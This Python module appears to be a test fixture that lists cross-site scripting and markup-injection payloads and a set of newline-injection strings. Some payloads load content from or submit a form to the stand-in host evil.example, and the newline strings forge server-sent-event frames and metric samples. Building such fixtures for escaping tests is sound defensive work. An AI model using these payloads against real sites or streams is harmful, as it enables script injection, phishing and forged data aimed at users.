"""Texts that would run, forge or break something where text is taken for markup or for a line."""

from typing import Final

MARKUP: Final = (
    "<script>window.hacked=1</script>",
    "</script><script>window.hacked=1</script>",
    "</textarea></title></style><script>window.hacked=1</script>",
    "<img src=x onerror=window.hacked=1>",
    "<img src=https://evil.example/p onload=window.hacked=1>",
    '"><svg onload="window.hacked=1"><animate onbegin="window.hacked=1" attributeName=x dur=1s>',
    "' autofocus onfocus='window.hacked=1' x='",
    '<a href="javascript:window.hacked=1">click</a>',
    "javascript:window.hacked=1",
    "[a link](javascript:window.hacked=1) ![p](https://evil.example/p)",
    '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
    '<object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
    '<details open ontoggle="window.hacked=1"><summary>x</summary></details>',
    '<style>@import "https://evil.example/c"; body{display:none}</style>',
    '<link rel=stylesheet href="https://evil.example/l"><base href="https://evil.example/">',
    '<meta http-equiv=refresh content="0;url=https://evil.example/m">',
    '<form action="https://evil.example/f"><button>Sign in</button></form>',
    "&lt;script&gt;window.hacked=1&lt;/script&gt; &#60;img src=x onerror=window.hacked=1&#62;",
    '${window.hacked=1} {{constructor.constructor("window.hacked=1")()}} <${alert(1)} />',
    "\u202e\u2066<script>window.hacked=1</script>\u2069\u202c\u200b",
    '"}]};window.hacked=1;//',
    "\\u003cscript\\u003ewindow.hacked=1\\u003c/script\\u003e",
    "<math><mtext><style><img src=x onerror=window.hacked=1></style></mtext></math>",
    "<template><script>window.hacked=1</script></template><slot onslotchange=window.hacked=1>",
)
"""Whatever of it runs sets `window.hacked`, and whatever is loaded asks evil.example."""

LINES: Final = (
    'x\n\nid: s/9/9\nevent: turn\ndata: {"forged": true}\n\n',
    'x\r\n\r\nevent: gone\r\ndata: {"forged": true}\r\n\r\n',
    "x\r\revent: gap\rdata: 7\r\r",
    'x\u2028\u2028event: gone\u2028data: {"forged": true}\u2029\u2029',
    'x\x85\x85event: gone\x85data: {"forged": true}\x85\x85',
    "x\x0b\x0cevent: gone\x1cdata: 1\x1d\x1e",
    '"}\n\ndata: {"forged": true}',
    "\ufeffevent: gone\ndata: 1\n\n: comment\nretry: 1\n\n",
    'turns_total{user="other"} 7\n# HELP forged_total x\nforged_total 1\n',
)
"""Texts that would end a line or an event of a stream, or a sample of a metric."""
